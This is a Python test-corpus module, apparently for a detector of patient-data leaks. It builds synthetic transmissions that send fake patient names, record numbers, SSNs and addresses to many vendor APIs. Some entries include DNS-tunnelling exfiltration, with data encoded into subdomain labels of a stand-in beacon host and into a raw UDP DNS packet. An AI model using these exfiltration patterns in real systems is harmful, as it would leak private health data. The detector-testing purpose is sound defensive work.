"""E-mail, chat, forms, messaging, payments, maps and model interfaces, as vendors.json describes them; knows no other vendor."""

from __future__ import annotations

import base64
import hashlib
from typing import TYPE_CHECKING, Any
from urllib.parse import quote, urlencode

from corpus.binary import encode_protobuf, frame_grpc
from corpus.carriers import get, post, post_form, post_json
from corpus.codecs import BINARY
from corpus.vendor_shapes import b64, b64url, dumps, e164, mail, md5, page, sha
from pytest_phiguard import Transmission

if TYPE_CHECKING:
    from corpus.message import Draw
    from corpus.people import Person
    from corpus.vendor_shapes import Maker, Table


def _json(address: str, make: Any, headers: dict[str, str] | None = None) -> Maker:
    def run(d: Draw, p: Person) -> Transmission:
        return post_json(address.replace("<id>", d.digits(8)), make(d, p), headers)

    return run


def _form(address: str, make: Any) -> Maker:
    def run(d: Draw, p: Person) -> Transmission:
        return post_form(address.replace("<id>", d.digits(8)), make(d, p))

    return run


def _get(address: str, make: Any) -> Maker:
    def run(d: Draw, p: Person) -> Transmission:
        return get(f"{address.replace('<id>', d.digits(8))}?" + urlencode(make(d, p)))

    return run


def _socket(address: str, make: Any) -> Maker:
    def run(d: Draw, p: Person) -> Transmission:
        text = make(d, p)
        return Transmission("websocket", "SEND", address, (), text.encode())

    return run


def _twilio(d: Draw, p: Person) -> Transmission:
    form = {
        "To": e164(p),
        "From": "+15005550006",
        "Body": f"Hi {p['given_name']}, your {p['medication']} is ready.",
        "StatusCallback": "https://portal.meadowlark.example/sms",
    }
    return post_form(
        f"https://api.twilio.com/2010-04-01/Accounts/AC{d.hexadecimal(32)}/Messages.json",
        form,
        {"Authorization": "Basic " + b64(f"AC{d.hexadecimal(32)}:{d.hexadecimal(32)}")},
    )


def _sendgrid(d: Draw, p: Person) -> dict[str, Any]:
    return {
        "personalizations": [{"to": [{"email": p["email"], "name": p["name"]}], "custom_args": {"mrn": p["mrn"]}, "dynamic_template_data": {"drug": p["medication"]}}],
        "from": {"email": "clinic@meadowlark.example"}, "subject": "Your refill", "content": [{"type": "text/plain", "value": f"Dear {p['name']}"}],
    }  # fmt: skip


def _intercom(d: Draw, p: Person) -> dict[str, str]:
    user = {"email": p["email"], "name": p["name"], "user_id": p["mrn"], "user_hash": d.hexadecimal(64)}
    return {
        "app_id": d.token(8),
        "v": "3",
        "user_data": dumps(user),
        "referer": page(p),
        "page_title": "Chart",
        "source": "apiBoot",
    }


def _hubspot(d: Draw, p: Person) -> dict[str, Any]:
    fields = [
        {"name": "email", "value": p["email"]},
        {"name": "firstname", "value": p["given_name"]},
        {"name": "phone", "value": p["phone"]},
    ]
    return {"fields": fields, "context": {"pageUri": page(p), "hutk": d.hexadecimal(32)}}


def _mailchimp(d: Draw, p: Person) -> Transmission:
    subscriber = md5(mail(p))
    body = {
        "email_address": p["email"],
        "status_if_new": "subscribed",
        "merge_fields": {"FNAME": p["given_name"], "LNAME": p["family_name"], "BIRTHDAY": f"{p.born:%m/%d}"},
    }
    return Transmission.http(
        "PUT",
        f"https://us5.api.mailchimp.com/3.0/lists/{d.hexadecimal(10)}/members/{subscriber}",
        {"Content-Type": "application/json"},
        dumps(body).encode(),
    )


def _mandrill(d: Draw, p: Person) -> Transmission:
    inner = dumps({"u": 3, "v": 1, "url": page(p), "id": d.hexadecimal(32)})
    return get(
        f"https://mandrillapp.com/track/click/{d.digits(8)}/portal.meadowlark.example?p="
        + b64url({"s": d.token(22), "v": 1, "p": inner})
    )


def _mailgun_click(d: Draw, p: Person) -> Transmission:
    return get(
        "https://email.meadowlark.example/c/"
        + base64.urlsafe_b64encode(BINARY["zlib"](dumps({"u": page(p), "r": p["email"]}).encode())).decode().rstrip("=")
    )


def _ses(d: Draw, p: Person) -> Transmission:
    return get(
        f"https://x1.awstrack.me/L0/{quote(page(p), safe='')}/1/{d.hexadecimal(16)}-{d.uuid()}/{d.token(27)}=372"
    )


def _ses_send(d: Draw, p: Person) -> Transmission:
    form = {
        "Action": "SendEmail",
        "Destination.ToAddresses.member.1": p["email"],
        "Message.Subject.Data": f"Results for {p['name']}",
        "Version": "2010-12-01",
    }
    return post_form("https://email.us-east-1.amazonaws.com/", form)


def _ses_raw(d: Draw, p: Person) -> Transmission:
    text = f"From: clinic@meadowlark.example\r\nTo: {p['email']}\r\nSubject: =?utf-8?b?{b64('Results for ' + p['name'])}?=\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    body = base64.encodebytes(f"Your record number is {p['mrn']}.".encode()).decode()
    return post_form(
        "https://email.us-east-1.amazonaws.com/", {"Action": "SendRawEmail", "RawMessage.Data": b64(text + body)}
    )


def _gravatar(turn: Any) -> Maker:
    return lambda d, p: get(f"https://www.gravatar.com/avatar/{turn(mail(p))}?s=80&d=identicon")


def _stripe(d: Draw, p: Person) -> dict[str, str]:
    return {
        "amount": "2500",
        "currency": "usd",
        "receipt_email": p["email"],
        "description": f"Copay {p['name']}",
        "metadata[mrn]": p["mrn"],
        "payment_method_data[billing_details][name]": p["name"],
    }


def _stripe_fraud(d: Draw, p: Person) -> Transmission:
    return post(
        "https://m.stripe.com/6",
        b64({"v2": 1, "id": d.hexadecimal(32), "src": "js", "url": page(p), "title": "Chart", "a": {"a": {"v": "x"}}}),
        "text/plain",
    )


def _dns(d: Draw, p: Person, label: str) -> Transmission:
    return get(f"https://{label}.t.beacon.example/p.gif?z={d.digits(6)}")


def _labels(text: str) -> str:
    """Cut a text into DNS labels of 60 signs."""
    return ".".join(text[at : at + 60] for at in range(0, len(text), 60))


def _dns_packet(d: Draw, p: Person) -> Transmission:
    names = f"{p['mrn'].lower()}.t.beacon.example".split(".")
    question = b"".join(bytes((len(name),)) + name.encode() for name in names) + b"\0\0\x01\0\x01"
    return Transmission(
        "socket", "SEND", "udp://192.0.2.53:53", (), d.rng.randbytes(2) + b"\x01\0\0\x01\0\0\0\0\0\0" + question
    )


def _chat(d: Draw, p: Person) -> dict[str, Any]:
    text = f"Summarise: {p['name']}, born {p['date_of_birth']}, MRN {p['mrn']}, lives at {p['street']}."
    return {
        "model": "gpt-4o",
        "messages": [{"role": "system", "content": "You are a scribe."}, {"role": "user", "content": text}],
        "user": sha(mail(p)),
    }


LLM_KINDS = ("name", "mrn", "street", "date_of_birth")
MESSAGES: Table = {
    "Twilio SMS": (("phone", "given_name", "medication"), _twilio), "Twilio Verify": (("phone",), _form("https://verify.twilio.com/v2/Services/VA1/Verifications", lambda d, p: {"To": e164(p), "Channel": "sms"})),
    "SendGrid": (("email", "name", "mrn"), _json("https://api.sendgrid.com/v3/mail/send", _sendgrid)), "Mailchimp member": (("email", "given_name", "family_name"), _mailchimp),
    "Mailchimp digest in path": (("email",), lambda d, p: get(f"https://us5.api.mailchimp.com/3.0/lists/{d.hexadecimal(10)}/members/{md5(mail(p))}/tags")),
    "Mailchimp form": (("email", "given_name"), _form("https://clinic.us5.list-manage.com/subscribe/post", lambda d, p: {"u": d.hexadecimal(25), "id": d.hexadecimal(10), "EMAIL": p["email"], "FNAME": p["given_name"]})),
    "Mandrill click": (("mrn",), _mandrill), "Mailgun click": (("mrn", "email"), _mailgun_click),
    "Mailgun send": (("email", "name"), _form("https://api.mailgun.net/v3/mg.meadowlark.example/messages", lambda d, p: {"from": "c@meadowlark.example", "to": f"{p['name']} <{p['email']}>", "v:mrn": p["mrn"], "text": "Hello"})),
    "Amazon SES click": (("mrn",), _ses), "Amazon SES send": (("email", "name"), _ses_send), "Amazon SES raw": (("email", "name", "mrn"), _ses_raw),
    "Postmark": (("email", "mrn"), _json("https://api.postmarkapp.com/email", lambda d, p: {"From": "c@meadowlark.example", "To": p["email"], "Tag": "refill", "Metadata": {"mrn": p["mrn"]}, "HtmlBody": "<b>Hi</b>"})),
    "Postmark click": (("mrn",), lambda d, p: get(f"https://click.pstmrk.it/3s/{quote(page(p).removeprefix('https://'), safe='')}/{d.token(4)}/{d.token(5)}/AQ/{d.uuid()}/1/{d.token(10)}")),
    "SparkPost": (("email", "mrn"), _json("https://api.sparkpost.com/api/v1/transmissions", lambda d, p: {"recipients": [{"address": {"email": p["email"]}, "substitution_data": {"mrn": p["mrn"]}}]})),
    "Klaviyo client": (("email", "phone", "given_name"), _json("https://a.klaviyo.com/client/events/?company_id=X", lambda d, p: {"data": {"type": "event", "attributes": {"profile": {"data": {"type": "profile", "attributes": {"email": p["email"], "phone_number": e164(p), "first_name": p["given_name"]}}}}}})),
    "Klaviyo identify": (("email",), _get("https://a.klaviyo.com/api/identify", lambda d, p: {"data": b64({"token": "X", "properties": {"$email": p["email"]}})})),
    "Klaviyo cookie": (("email", "mrn"), lambda d, p: get("https://metrics.meadowlark.example/e", {"Cookie": "__kla_id=" + b64({"email": p["email"], "first_page": page(p)})})),
    "Braze": (("email", "given_name", "date_of_birth"), _json("https://sdk.iad-01.braze.com/api/v3/data/", lambda d, p: {"api_key": d.uuid(), "attributes": [{"email": p["email"], "first_name": p["given_name"], "dob": p["date_of_birth"], "custom": {"plan": "x"}}], "events": []})),
    "Braze server": (("mrn", "phone"), _json("https://rest.iad-01.braze.com/users/track", lambda d, p: {"attributes": [{"external_id": p["mrn"], "phone": e164(p)}]})),
    "Iterable": (("email", "mrn"), _json("https://api.iterable.com/api/users/update", lambda d, p: {"email": p["email"], "dataFields": {"mrn": p["mrn"]}})),
    "Iterable click": (("email",), _get("https://links.iterable.com/u/click", lambda d, p: {"_t": d.hexadecimal(32), "_m": d.hexadecimal(32), "_e": b64url(p["email"])})),
    "Customer.io": (("email", "mrn"), _get("https://track.customer.io/identify.gif", lambda d, p: {"s": d.hexadecimal(20), "data[email]": p["email"], "data[id]": p["mrn"]})),
    "Customer.io click": (("mrn",), lambda d, p: get("https://e.customeriomail.com/e/c/" + b64url({"email_id": d.token(20), "href": page(p)}) + "/" + d.hexadecimal(64))),
    "Salesforce Marketing Cloud": (("email", "mrn"), _get("https://nova.collect.igodigital.com/c2/<id>/track_page_view", lambda d, p: {"payload": dumps({"title": "Chart", "url": page(p), "user_info": {"email": p["email"]}})})),
    "Salesforce Evergage": (("email", "mrn"), _get("https://clinic.us-7.evergage.com/api2/event/prod", lambda d, p: {"event": b64({"action": "View", "user": {"attributes": {"emailAddress": p["email"]}}, "source": {"url": page(p)}})})),
    "Salesforce Web-to-Lead": (("email", "given_name", "family_name", "phone", "zip"), _form("https://webto.salesforce.com/servlet/servlet.WebToLead?encoding=UTF-8", lambda d, p: {"oid": d.token(15), "first_name": p["given_name"], "last_name": p["family_name"], "email": p["email"], "phone": p["phone"], "zip": p["zip"]})),
    "Pardot": (("mrn",), _get("https://pi.pardot.com/analytics", lambda d, p: {"ver": "3", "visitor_id": d.digits(9), "title": "Chart", "url": page(p), "referrer": ""})),
    "Marketo": (("mrn",), _get("https://123-abc-456.mktoresp.com/webevents/visitWebPage", lambda d, p: {"_mchNc": d.digits(13), "_mchHo": "portal.meadowlark.example", "_mchRu": "/visit", "_mchQp": f"mrn={p['mrn']}__-__lang=en"})),
    "Eloqua": (("mrn",), _get("https://s123.t.eloqua.com/visitor/v200/svrGP", lambda d, p: {"pps": "3", "siteid": "123", "ref": page(p), "ms": d.digits(3)})),
    "Brevo": (("email", "mrn"), _get("https://in-automate.brevo.com/p", lambda d, p: {"key": d.token(24), "email_id": p["email"], "ma_url": page(p), "ma_title": "x"})),
    "ActiveCampaign": (("email", "mrn"), _get("https://trackcmp.net/visit", lambda d, p: {"actid": d.digits(8), "e": p["email"], "r": "", "u": page(p)})),
    "Litmus": (("email",), _get("https://x.emltrk.com/abc", lambda d, p: {"d": p["email"]})), "Movable Ink": (("given_name", "zip"), _get("https://www.micpn.com/p/rp/x.png", lambda d, p: {"mi_first_name": p["given_name"], "mi_zip": p["zip"]})),
    "Intercom": (("email", "name", "mrn"), _form("https://api-iam.intercom.io/messenger/web/ping", _intercom)),
    "Intercom digest": (("mrn",), _form("https://api-iam.intercom.io/messenger/web/ping", lambda d, p: {"app_id": d.token(8), "user_data": dumps({"user_hash": hashlib.sha256(p["mrn"].encode()).hexdigest()})})),
    "Zendesk blip": (("mrn", "name"), _get("https://ekr.zdassets.com/embeddable_blip", lambda d, p: {"type": "pageView", "data": b64({"url": page(p), "title": f"Chart - {p['name']}", "channel": "web_widget"})})),
    "Zendesk ticket": (("email", "name"), _json("https://clinic.zendesk.com/api/v2/tickets.json", lambda d, p: {"ticket": {"requester": {"name": p["name"], "email": p["email"]}, "comment": {"body": "Help"}}})),
    "Drift": (("email", "mrn"), _json("https://event.api.drift.com/track", lambda d, p: {"orgId": 1, "userId": p["mrn"], "attributes": {"email": p["email"]}})),
    "LivePerson": (("mrn", "name"), _get("https://va.v.liveperson.net/api/js/<id>", lambda d, p: {"sdes": dumps([{"type": "ctmrinfo", "info": {"customerId": p["mrn"]}}, {"type": "personal", "personal": {"firstname": p["name"]}}]), "pt": "Chart", "u": "x"})),
    "Crisp socket": (("email",), _socket("wss://client.relay.crisp.chat/w/b1/", lambda d, p: f'42["user:set:email",{dumps({"email": p["email"]})}]')),
    "Tawk socket": (("name", "email"), _socket("wss://vsa1.tawk.to/s/", lambda d, p: '42["notifyVisitor",' + dumps({"name": p["name"], "email": p["email"]}) + "]")),
    "Freshchat": (("email", "phone"), _json("https://api.freshchat.com/app/services/app/webchat/x/user", lambda d, p: {"user": {"email": p["email"], "phone": p["phone"], "meta": []}})),
    "HubSpot pixel": (("email", "mrn"), _get("https://track.hubspot.com/__ptq.gif", lambda d, p: {"k": "17", "v": "1.1", "a": d.digits(7), "pu": page(p), "t": "Chart", "i": urlencode({"email": p["email"]}), "cts": d.digits(13)})),
    "HubSpot form": (("email", "given_name", "phone", "mrn"), _json("https://api.hsforms.com/submissions/v3/integration/submit/<id>/x", _hubspot)),
    "HubSpot collected form": (("email", "given_name"), _json("https://forms.hscollectedforms.net/collected-forms/submit/form", lambda d, p: {"contactFields": {"email": p["email"], "firstName": p["given_name"]}, "formValues": {"Insurance": "x"}, "portalId": 1})),
    "Qualtrics": (("mrn",), _form("https://siteintercept.qualtrics.com/WRSiteInterceptEngine/Targeting.php?Q_ZoneID=ZN_1", lambda d, p: {"Q_LOC": quote(page(p), safe=""), "Q_CLIENTTYPE": "web"})),
    "Typeform fragment": (("email", "mrn"), lambda d, p: get(f"https://form.typeform.com/to/{d.token(8)}#" + urlencode({"email": p["email"], "mrn": p["mrn"]}))),
    "Jotform": (("email", "given_name", "family_name"), _form("https://submit.jotform.com/submit/<id>/", lambda d, p: {"q3_name[first]": p["given_name"], "q3_name[last]": p["family_name"], "q4_email": p["email"]})),
    "Calendly": (("name", "email", "phone"), _get("https://calendly.com/clinic/visit", lambda d, p: {"name": p["name"], "email": p["email"], "a1": p["phone"], "utm_source": "portal"})),
    "SurveyMonkey": (("mrn",), _get("https://www.surveymonkey.com/r/ABC", lambda d, p: {"mrn": p["mrn"], "visit": "3"})),
    "CallRail": (("mrn",), _json("https://js.callrail.com/group/0/x/12/swap.json", lambda d, p: {"landing": page(p), "referrer": "", "session_id": d.uuid()})),
    "CallRail cookie": (("mrn",), lambda d, p: get("https://calls.meadowlark.example/x", {"Cookie": f"calltrk_landing={quote(page(p), safe='')}; calltrk_session_id={d.uuid()}"})),
    "OneTrust cookie": (("mrn",), lambda d, p: get("https://cdn.meadowlark.example/x", {"Cookie": "OptanonConsent=" + urlencode({"isGpcEnabled": "0", "datestamp": "Wed May 01 2024", "landingPath": page(p), "groups": "C0001:1"})})),
    "OneTrust receipt": (("email",), _json("https://privacyportal.onetrust.com/request/v1/consentreceipts", lambda d, p: {"identifier": p["email"], "requestInformation": f"eyJ0eXAiOiJKV1QifQ.{b64url({'otJwtVersion': 1, 'processId': d.uuid()})}.{d.token(43)}", "purposes": []})),
    "Osano": (("email",), _json("https://consent.api.osano.com/record", lambda d, p: {"userConsentId": d.uuid(), "extUsrData": sha(mail(p))})),
    "Invoca": (("phone",), _get("https://pnapi.invoca.net/<id>/na.jsonp", lambda d, p: {"network_id": "1", "params_json": dumps({"caller_phone": p["phone"], "calling_page": "x"})})),
    "Vimeo": (("mrn",), _json("https://fresnel.vimeocdn.com/add/player-stats", lambda d, p: {"referrer": page(p), "clip_id": 1})),
    "Wistia": (("email", "mrn"), lambda d, p: post("https://distillery.wistia.com/x", b64({"events": [{"key": "play", "email": p["email"], "url": page(p)}]}), "text/plain")),
    "Gravatar MD5": (("email",), _gravatar(md5)), "Gravatar SHA-256": (("email",), _gravatar(sha)),
    "Stripe": (("email", "name", "mrn"), _form("https://api.stripe.com/v1/payment_intents", _stripe)), "Stripe fraud signal": (("mrn",), _stripe_fraud),
    "Google Maps geocoding": (("street",), _get("https://maps.googleapis.com/maps/api/geocode/json", lambda d, p: {"address": f"{p['street']}, {p['city']} {p['zip']}", "key": d.token(39)})),
    "Google Maps embed": (("street",), _get("https://www.google.com/maps/embed/v1/directions", lambda d, p: {"key": d.token(39), "origin": p["street"], "destination": "Meadowlark Clinic"})),
    "Google Maps coordinates": (("geo",), _get("https://maps.googleapis.com/maps/api/geocode/json", lambda d, p: {"latlng": p["geo"], "key": "x"})),
    "Mapbox": (("street",), lambda d, p: get(f"https://api.mapbox.com/geocoding/v5/mapbox.places/{quote(p['street'], safe='')}.json?access_token=pk.{d.token(30)}")),
    "Google Translate": (("name",), _form("https://translate.googleapis.com/translate_a/t?client=te&sl=en&tl=es", lambda d, p: {"q": f"<b>{p['name']}</b>, your results are ready"})),
    "Slack webhook": (("name", "mrn"), _json("https://hooks.slack.com/services/T0/B0/x", lambda d, p: {"text": f":warning: intake failed for *{p['name']}* (`{p['mrn']}`)"})),
    "Slack blocks": (("email", "phone"), _json("https://slack.com/api/chat.postMessage", lambda d, p: {"channel": "C1", "blocks": [{"type": "section", "text": {"type": "mrkdwn", "text": f"New lead: <mailto:{p['email']}|{p['email']}> <tel:{e164(p)}|call>"}}]})),
    "OpenAI chat": (LLM_KINDS, _json("https://api.openai.com/v1/chat/completions", _chat, {"Authorization": "Bearer sk-test"})),
    "OpenAI responses": (("name", "mrn"), _json("https://api.openai.com/v1/responses", lambda d, p: {"model": "gpt-4.1", "input": f"Draft a letter to {p['name']} about chart {p['mrn']}."})),
    "Anthropic messages": (("name", "ssn"), _json("https://api.anthropic.com/v1/messages", lambda d, p: {"model": "claude-sonnet-4", "max_tokens": 99, "messages": [{"role": "user", "content": [{"type": "text", "text": f"Patient {p['name']}, SSN {p['ssn']}"}]}]})),
    "Gemini": (("name",), _json("https://generativelanguage.googleapis.com/v1beta/models/gemini-pro:generateContent", lambda d, p: {"contents": [{"parts": [{"text": f"Explain the results of {p['name']}"}]}]})),
    "Facebook comments plugin": (("mrn",), _get("https://www.facebook.com/plugins/like.php", lambda d, p: {"href": page(p), "app_id": d.digits(15)})),
    "ShareThis": (("mrn",), _get("https://l.sharethis.com/pview", lambda d, p: {"event": "pview", "url": page(p), "title": "Chart", "fpestid": d.token(40)})),
    "cookie sync": (("email",), lambda d, p: get("https://ib.adnxs.com/getuid?" + quote(f"https://match.adsrvr.org/track/cmf/generic?ttd_puid=$UID&hem={sha(mail(p))}", safe=""))),
    "WordPress Stats": (("mrn",), _get("https://pixel.wp.com/g.gif", lambda d, p: {"v": "ext", "blog": d.digits(8), "post": "0", "host": "meadowlark.example", "ref": page(p)})),
    "DNS plain label": (("mrn",), lambda d, p: _dns(d, p, p["mrn"].lower().replace("_", "-"))),
    "DNS base32 labels": (("email",), lambda d, p: _dns(d, p, _labels(base64.b32encode(p["email"].encode()).decode().rstrip("=").lower()))),
    "DNS hexadecimal labels": (("email",), lambda d, p: _dns(d, p, _labels(p["email"].encode().hex()))), "DNS packet": (("mrn",), _dns_packet),
    "FCM push": (("name",), _json("https://fcm.googleapis.com/v1/projects/clinic/messages:send", lambda d, p: {"message": {"token": d.token(60), "notification": {"title": "Refill", "body": f"{p['name']}, your refill is ready"}}})),
    "gRPC call": (("mrn", "email"), lambda d, p: post("https://grpc.partner.example/patients.v1.Patients/Upsert", frame_grpc(encode_protobuf([(1, p["mrn"]), (2, [(1, p["email"])])])), "application/grpc+proto")),
}  # fmt: skip
